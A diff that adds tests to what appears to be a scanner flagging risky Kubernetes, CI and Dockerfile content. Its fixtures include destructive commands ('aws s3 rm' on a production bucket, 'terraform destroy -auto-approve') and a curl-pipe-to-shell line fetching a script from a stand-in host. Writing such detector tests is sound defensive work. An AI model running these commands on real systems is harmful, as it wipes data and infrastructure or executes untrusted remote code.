@@ -158,3 +158,24 @@ def test_long_documents_stay_fast() -> None:
         start = time.perf_counter()
         assess_documents(text)
         assert time.perf_counter() - start < 0.25
+
+
+def test_a_document_longer_than_what_is_read_is_held() -> None:
+    long_yaml = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: big\ndata:\n"
+    long_yaml += "\n".join(f"  key{i}: value" for i in range(3000))
+    assert "doc.partly_read" in rules_of(long_yaml)
+    assert "doc.partly_read" not in rules_of("x " * 20000)  # long, but no document
+    assert rules_of(CRB) == {"doc.k8s_broad_binding"}
+
+
+def test_scripts_documents_run_are_returned_for_the_shell_detector() -> None:
+    job = (
+        "apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: c\nspec:\n  template:\n"
+        "    spec:\n      containers:\n      - name: c\n        image: amazon/aws-cli:2\n"
+        '        args: ["s3", "rm", "s3://media-prod/", "--recursive"]\n'
+    )
+    assert assess_documents(job).scripts == ["aws s3 rm s3://media-prod/ --recursive"]
+    workflow = "jobs:\n  a:\n    steps:\n      - run: terraform destroy -auto-approve\n"
+    assert assess_documents(workflow).scripts == ["terraform destroy -auto-approve"]
+    dockerfile = "FROM python:3.12\nRUN curl -sSL https://x.example/i.sh | sh\n"
+    assert assess_documents(dockerfile).scripts == ["curl -sSL https://x.example/i.sh | sh"]
